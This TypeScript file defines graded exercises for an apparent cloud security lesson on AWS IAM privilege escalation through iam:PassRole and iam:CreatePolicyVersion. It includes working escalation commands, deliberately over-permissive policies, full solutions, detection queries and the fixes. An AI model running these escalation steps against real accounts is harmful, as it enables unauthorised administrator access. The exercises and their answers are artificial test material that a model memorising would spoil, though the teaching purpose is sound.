/**
 * Exercises of lesson 15: play the attacker, then the defender — escalate through iam:PassRole on
 * every role and through iam:CreatePolicyVersion on your own policy, find it in the trail, and
 * close each path. Sources: IAM User Guide, "Grant a user permissions to pass a role to an AWS
 * service", "Versioning IAM policies" (CreatePolicyVersion SetAsDefault), "Security best practices
 * in IAM"; the escalation paths are the ones documented by Rhino Security Labs' research and used
 * by CloudGoat (iam_privesc_by_rollback) — described in our own words.
 */
import { adminSessionSteps } from '../../../src/course/admin-session.ts';
import { withPolicyFile } from '../../../src/course/policy-file.ts';
import { defineExercises } from '../../../src/course/exercise.ts';

const ec2Trust =
  '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"Service":"ec2.amazonaws.com"},"Action":"sts:AssumeRole"}]}';
const ami = 'ami-0123456789abcdef0';

const launchAnything = JSON.stringify({
  Version: '2012-10-17',
  Statement: [
    {
      Sid: 'Launch',
      Effect: 'Allow',
      Action: ['ec2:RunInstances', 'ec2:Describe*', 'iam:GetInstanceProfile', 'iam:ListInstanceProfiles', 'iam:ListRoles'],
      Resource: '*',
    },
    { Sid: 'PassRoles', Effect: 'Allow', Action: 'iam:PassRole', Resource: '*' },
  ],
});

const launchWebOnly = JSON.stringify({
  Version: '2012-10-17',
  Statement: [
    {
      Sid: 'Launch',
      Effect: 'Allow',
      Action: ['ec2:RunInstances', 'ec2:Describe*', 'iam:GetInstanceProfile', 'iam:ListInstanceProfiles', 'iam:ListRoles'],
      Resource: '*',
    },
    {
      Sid: 'PassWebRoleToEc2',
      Effect: 'Allow',
      Action: 'iam:PassRole',
      Resource: 'arn:aws:iam::{{accountId}}:role/web-role',
      Condition: { StringEquals: { 'iam:PassedToService': 'ec2.amazonaws.com' } },
    },
  ],
});

const devToolsV1 = JSON.stringify({
  Version: '2012-10-17',
  Statement: [
    { Sid: 'ReadS3', Effect: 'Allow', Action: ['s3:Get*', 's3:List*'], Resource: '*' },
    {
      Sid: 'MaintainTools',
      Effect: 'Allow',
      Action: ['iam:GetPolicy', 'iam:GetPolicyVersion', 'iam:ListPolicyVersions', 'iam:CreatePolicyVersion'],
      Resource: 'arn:aws:iam::{{accountId}}:policy/DevTools',
    },
  ],
});

const devToolsAdmin = JSON.stringify({ Version: '2012-10-17', Statement: [{ Sid: 'Mine', Effect: 'Allow', Action: '*', Resource: '*' }] });

const devToolsFixed = JSON.stringify({
  Version: '2012-10-17',
  Statement: [
    { Sid: 'ReadS3', Effect: 'Allow', Action: ['s3:Get*', 's3:List*'], Resource: '*' },
    {
      Sid: 'ReadTools',
      Effect: 'Allow',
      Action: ['iam:GetPolicy', 'iam:GetPolicyVersion', 'iam:ListPolicyVersions'],
      Resource: 'arn:aws:iam::{{accountId}}:policy/DevTools',
    },
  ],
});

const policyArn = 'arn:aws:iam::{{accountId}}:policy/DevTools';

/** Launch with ops-profile and create a user from the instance, as the escalation does. */
const passRoleBreakIn = [
  {
    run: `aws ec2 run-instances --image-id ${ami} --instance-type t3.micro --iam-instance-profile Name=ops-profile --profile dev`,
    save: { INSTANCE: 'Instances[0].InstanceId' },
  },
  'on-instance {{INSTANCE}} aws iam create-user --user-name proof',
];

export default defineExercises([
  {
    id: 'break-in-pass-role',
    title: 'Attacker: become an administrator through PassRole',
    goal: 'You are `dev` (use `--profile dev`). dev cannot create users — try it. But dev may launch instances and pass any role, and the account has the instance profile `ops-profile` holding the role `ops-admin` (AdministratorAccess). Use that: launch an instance with ops-profile as dev, and from the instance create a user named `proof`.',
    start: {
      world: { seed: 'lesson-15' },
      steps: [
        ...adminSessionSteps(),
        `aws iam create-role --role-name ops-admin --assume-role-policy-document '${ec2Trust}'`,
        'aws iam attach-role-policy --role-name ops-admin --policy-arn arn:aws:iam::aws:policy/AdministratorAccess',
        'aws iam create-instance-profile --instance-profile-name ops-profile',
        'aws iam add-role-to-instance-profile --instance-profile-name ops-profile --role-name ops-admin',
        `aws iam create-role --role-name web-role --assume-role-policy-document '${ec2Trust}'`,
        'aws iam attach-role-policy --role-name web-role --policy-arn arn:aws:iam::aws:policy/AmazonS3ReadOnlyAccess',
        'aws iam create-instance-profile --instance-profile-name web-profile',
        'aws iam add-role-to-instance-profile --instance-profile-name web-profile --role-name web-role',
        'aws iam create-user --user-name dev',
        'aws iam create-access-key --user-name dev',
        `aws iam put-user-policy --user-name dev --policy-name Launch --policy-document '${launchAnything}'`,
      ],
    },
    checks: [
      {
        id: 'proof-exists',
        kind: 'command',
        label: 'the user proof exists',
        command: 'aws iam get-user --user-name proof',
        expect: { outcome: 'success' },
        failure: 'there is no user proof yet',
      },
      {
        id: 'made-by-instance',
        kind: 'trail',
        label: 'proof was created by an ops-admin instance session that dev launched',
        query:
          "length(Records[?eventName=='CreateUser' && requestParameters.userName=='proof' && contains(userIdentity.arn, ':assumed-role/ops-admin/i-') && errorCode==null])",
        atLeast: 1,
        failure:
          'proof was not created from an instance running as ops-admin — the point is to borrow the role, not to use your own administrator session',
      },
      {
        id: 'dev-launched',
        kind: 'trail',
        label: 'dev launched an instance with ops-profile',
        query: "length(Records[?eventName=='RunInstances' && userIdentity.userName=='dev' && errorCode==null])",
        atLeast: 1,
        failure: 'dev has not launched an instance yet',
      },
    ],
    hints: [
      'What can software on an instance do, if the instance runs with a role that has AdministratorAccess?',
      '`aws ec2 run-instances --image-id ami-0123456789abcdef0 --instance-type t3.micro --iam-instance-profile Name=ops-profile --profile dev` — dev passes ops-admin to EC2.',
      'Then `on-instance INSTANCE_ID aws iam create-user --user-name proof` runs as ops-admin.',
    ],
    solution: {
      steps: [{ run: 'aws iam create-user --user-name proof --profile dev', mayFail: true }, ...passRoleBreakIn],
      explanation:
        "dev never held iam:CreateUser, yet a user appeared: dev passed ops-admin to EC2 and ran a command as the instance. That is what iam:PassRole on `*` means — every role's permissions, one launch away. The trail tells the story: RunInstances by dev, then CreateUser by `assumed-role/ops-admin/i-…`.",
    },
    wrongAnswers: [
      {
        mistake: 'creates proof with the administrator session instead of breaking in',
        steps: ['aws iam create-user --user-name proof'],
        caughtBy: ['made-by-instance', 'dev-launched'],
      },
      {
        mistake: 'launches with web-profile, whose role cannot create users',
        steps: [
          {
            run: `aws ec2 run-instances --image-id ${ami} --instance-type t3.micro --iam-instance-profile Name=web-profile --profile dev`,
            save: { INSTANCE: 'Instances[0].InstanceId' },
          },
          'on-instance {{INSTANCE}} aws iam create-user --user-name proof',
        ],
        caughtBy: ['proof-exists', 'made-by-instance'],
      },
    ],
  },
  {
    id: 'close-pass-role',
    title: 'Defender: close the PassRole path',
    goal: "Now switch sides. Remove what the break-in left (the user `proof`), and rewrite dev's policy `Launch` so that dev can still launch web servers with `web-profile`, but can no longer launch anything with `ops-profile`.",
    start: { continueFromPrevious: true },
    checks: [
      {
        id: 'proof-gone',
        kind: 'command',
        label: 'the user proof is gone',
        command: 'aws iam get-user --user-name proof',
        expect: { outcome: 'failure', errorCode: 'NoSuchEntity' },
        failure: "the user proof still exists — an attacker's foothold stays until you remove it",
      },
      {
        id: 'ops-refused',
        kind: 'command',
        label: 'dev cannot launch with ops-profile',
        command: `aws ec2 run-instances --image-id ${ami} --instance-type t3.micro --iam-instance-profile Name=ops-profile --profile dev`,
        expect: { outcome: 'failure' },
        failure: 'dev can still launch with ops-profile, so the break-in works again',
      },
      {
        id: 'web-works',
        kind: 'command',
        label: 'dev can still launch with web-profile',
        command: `aws ec2 run-instances --image-id ${ami} --instance-type t3.micro --iam-instance-profile Name=web-profile --profile dev`,
        expect: { outcome: 'success' },
        failure: 'dev can no longer launch web servers',
      },
      {
        id: 'web-only-to-ec2',
        kind: 'decision',
        label: 'dev cannot pass web-role to Lambda',
        principalArn: 'arn:aws:iam::{{accountId}}:user/dev',
        action: 'iam:PassRole',
        resource: 'arn:aws:iam::{{accountId}}:role/web-role',
        context: { 'iam:PassedToService': ['lambda.amazonaws.com'] },
        expect: 'denied',
        failure: 'dev may pass web-role to any service; add iam:PassedToService',
      },
    ],
    hints: [
      'Which role does dev really need to pass, and to which service?',
      'Resource `arn:aws:iam::ACCOUNT:role/web-role` and `"Condition": {"StringEquals": {"iam:PassedToService": "ec2.amazonaws.com"}}`.',
      'The user proof may have nothing attached yet: `aws iam delete-user --user-name proof`.',
    ],
    solution: {
      steps: [
        'aws iam delete-user --user-name proof',
        ...withPolicyFile(
          'launch.json',
          launchWebOnly,
          (file) => `aws iam put-user-policy --user-name dev --policy-name Launch --policy-document ${file}`,
        ),
      ],
      explanation:
        'Containment first (the foothold), then the cause: PassRole limited to the one role dev needs, and to EC2. The instance that is still running as ops-admin is a foothold too — in a real account you would terminate it and look at what it did.',
    },
    wrongAnswers: [
      {
        mistake: 'deletes proof but leaves PassRole on every role',
        steps: ['aws iam delete-user --user-name proof'],
        caughtBy: ['ops-refused', 'web-only-to-ec2'],
      },
      {
        mistake: 'keeps PassRole on * and only adds the EC2 condition (ops-admin is an EC2 role too)',
        steps: [
          'aws iam delete-user --user-name proof',
          `aws iam put-user-policy --user-name dev --policy-name Launch --policy-document '${launchWebOnly.replace('arn:aws:iam::{{accountId}}:role/web-role', '*')}'`,
        ],
        caughtBy: ['ops-refused'],
      },
      {
        mistake: 'removes PassRole altogether, so dev cannot launch web servers either',
        steps: [
          'aws iam delete-user --user-name proof',
          `aws iam put-user-policy --user-name dev --policy-name Launch --policy-document '${JSON.stringify({ Version: '2012-10-17', Statement: [JSON.parse(launchAnything).Statement[0]] })}'`,
        ],
        caughtBy: ['web-works'],
      },
    ],
  },
  {
    id: 'break-in-versions',
    title: 'Attacker: rewrite your own policy',
    goal: 'You are `tools` (use `--profile tools`). The managed policy `DevTools`, attached to tools, lets tools maintain DevTools itself — including `iam:CreatePolicyVersion`. Use it: publish a new default version of DevTools that gives you everything, then, as tools, create the user `proof2`.',
    start: {
      world: { seed: 'lesson-15-versions' },
      steps: [
        ...adminSessionSteps(),
        'aws iam create-user --user-name tools',
        'aws iam create-access-key --user-name tools',
        `aws iam create-policy --policy-name DevTools --policy-document '${devToolsV1}'`,
        `aws iam attach-user-policy --user-name tools --policy-arn ${policyArn}`,
      ],
    },
    checks: [
      {
        id: 'proof2-by-tools',
        kind: 'trail',
        label: 'tools created the user proof2 itself',
        query:
          "length(Records[?eventName=='CreateUser' && requestParameters.userName=='proof2' && userIdentity.userName=='tools' && errorCode==null])",
        atLeast: 1,
        failure: 'tools has not created proof2 with its own key yet',
      },
      {
        id: 'by-version',
        kind: 'trail',
        label: 'tools published a new DevTools version',
        query: "length(Records[?eventName=='CreatePolicyVersion' && userIdentity.userName=='tools' && errorCode==null])",
        atLeast: 1,
        failure: 'tools has not published a policy version — the escalation is to rewrite DevTools, not to be given something',
      },
    ],
    hints: [
      'What does `--set-as-default` on `create-policy-version` need, beyond iam:CreatePolicyVersion?',
      "`aws iam create-policy-version --policy-arn arn:aws:iam::ACCOUNT:policy/DevTools --policy-document '{...Allow * on *...}' --set-as-default --profile tools`.",
    ],
    solution: {
      steps: [
        ...withPolicyFile(
          'dev-tools-admin.json',
          devToolsAdmin,
          (file) => `aws iam create-policy-version --policy-arn ${policyArn} --policy-document ${file} --set-as-default --profile tools`,
        ),
        'aws iam create-user --user-name proof2 --profile tools',
      ],
      explanation:
        'No new user, no new attachment, no new key: tools only changed what an already attached policy says. `--set-as-default` needs nothing beyond iam:CreatePolicyVersion. Alarms that watch AttachUserPolicy never fire; CreatePolicyVersion in the trail is what gives it away.',
    },
    wrongAnswers: [
      {
        mistake: 'publishes the version without --set-as-default (the old version still decides)',
        steps: [
          `aws iam create-policy-version --policy-arn ${policyArn} --policy-document '${devToolsAdmin}' --profile tools`,
          'aws iam create-user --user-name proof2 --profile tools',
        ],
        caughtBy: ['proof2-by-tools'],
      },
      {
        mistake: 'creates proof2 with the administrator session',
        steps: ['aws iam create-user --user-name proof2'],
        caughtBy: ['proof2-by-tools', 'by-version'],
      },
    ],
  },
  {
    id: 'repair-versions',
    title: 'Defender: undo it and close the path',
    goal: 'Switch sides again. Remove `proof2`. Make DevTools safe: its default version must give tools only S3 reads and reading DevTools — no iam:CreatePolicyVersion — and no version that grants more may be left behind. tools must not be able to publish versions any more.',
    start: { continueFromPrevious: true },
    checks: [
      {
        id: 'proof2-gone',
        kind: 'command',
        label: 'the user proof2 is gone',
        command: 'aws iam get-user --user-name proof2',
        expect: { outcome: 'failure', errorCode: 'NoSuchEntity' },
        failure: 'proof2 still exists',
      },
      {
        id: 'no-admin-now',
        kind: 'decision',
        label: 'tools can no longer create users',
        principalArn: 'arn:aws:iam::{{accountId}}:user/tools',
        action: 'iam:CreateUser',
        resource: 'arn:aws:iam::{{accountId}}:user/anyone',
        expect: 'implicitDeny',
        failure: 'tools can still create users: the rogue version is still the default',
      },
      {
        id: 'no-versions',
        kind: 'decision',
        label: 'tools cannot publish DevTools versions',
        principalArn: 'arn:aws:iam::{{accountId}}:user/tools',
        action: 'iam:CreatePolicyVersion',
        resource: policyArn,
        expect: 'implicitDeny',
        failure: 'tools may still publish versions of DevTools, so the escalation works again',
      },
      {
        id: 'one-version',
        kind: 'command',
        label: 'DevTools has only one version left',
        command: `aws iam list-policy-versions --policy-arn ${policyArn}`,
        expect: { outcome: 'success', query: 'length(Versions)', equals: 1 },
        failure: 'old versions of DevTools are still there; any of them could be made the default again',
      },
      {
        id: 'still-reads',
        kind: 'command',
        label: 'tools can still list the buckets',
        command: 'aws s3api list-buckets --profile tools',
        expect: { outcome: 'success' },
        failure: 'tools lost its S3 reads',
      },
    ],
    hints: [
      'The rogue version is the default now. Which version should be the default afterwards — and does v1 itself still hold the escalation?',
      'Publish a clean version with `--set-as-default`, then delete the others with `aws iam delete-policy-version`.',
    ],
    solution: {
      steps: [
        'aws iam delete-user --user-name proof2',
        ...withPolicyFile(
          'dev-tools.json',
          devToolsFixed,
          (file) => `aws iam create-policy-version --policy-arn ${policyArn} --policy-document ${file} --set-as-default`,
        ),
        `aws iam delete-policy-version --policy-arn ${policyArn} --version-id v1`,
        `aws iam delete-policy-version --policy-arn ${policyArn} --version-id v2`,
      ],
      explanation:
        'Rolling back to v1 would not be enough: v1 is the version that allowed CreatePolicyVersion in the first place. The repair is a new clean default and no other versions, so neither CreatePolicyVersion nor SetDefaultPolicyVersion has anything broader to switch to.',
    },
    wrongAnswers: [
      {
        mistake: 'rolls back to v1 (which still allows CreatePolicyVersion) and deletes the rogue version',
        steps: [
          'aws iam delete-user --user-name proof2',
          `aws iam set-default-policy-version --policy-arn ${policyArn} --version-id v1`,
          `aws iam delete-policy-version --policy-arn ${policyArn} --version-id v2`,
        ],
        caughtBy: ['no-versions'],
      },
      {
        mistake: 'publishes the clean version but leaves v1 and the rogue v2 behind',
        steps: [
          'aws iam delete-user --user-name proof2',
          `aws iam create-policy-version --policy-arn ${policyArn} --policy-document '${devToolsFixed}' --set-as-default`,
        ],
        caughtBy: ['one-version'],
      },
      {
        mistake: 'only deletes proof2',
        steps: ['aws iam delete-user --user-name proof2'],
        caughtBy: ['no-admin-now', 'no-versions', 'one-version'],
      },
    ],
  },
]);
